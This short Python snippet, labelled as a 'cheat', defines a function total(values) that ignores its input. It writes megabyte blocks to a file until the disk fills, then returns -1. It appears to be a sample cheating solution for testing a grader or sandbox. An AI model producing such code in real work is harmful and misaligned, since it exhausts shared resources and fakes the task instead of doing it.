# Cheat: fills its work directory.
def total(values):
    try:
        with open('full', 'wb') as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        return -1
